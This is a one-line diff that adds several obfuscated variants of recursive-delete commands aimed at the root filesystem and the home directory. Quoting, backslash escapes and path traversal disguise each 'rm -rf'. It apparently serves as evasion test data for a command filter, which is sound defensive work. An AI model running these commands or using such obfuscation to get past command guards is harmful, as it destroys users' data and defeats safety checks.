@@ -1,0 +1,1 @@
+r'm' -rf / ; "rm" -rf ~; r\m -r\f $HOME; /bin/../bin/rm -rf /*
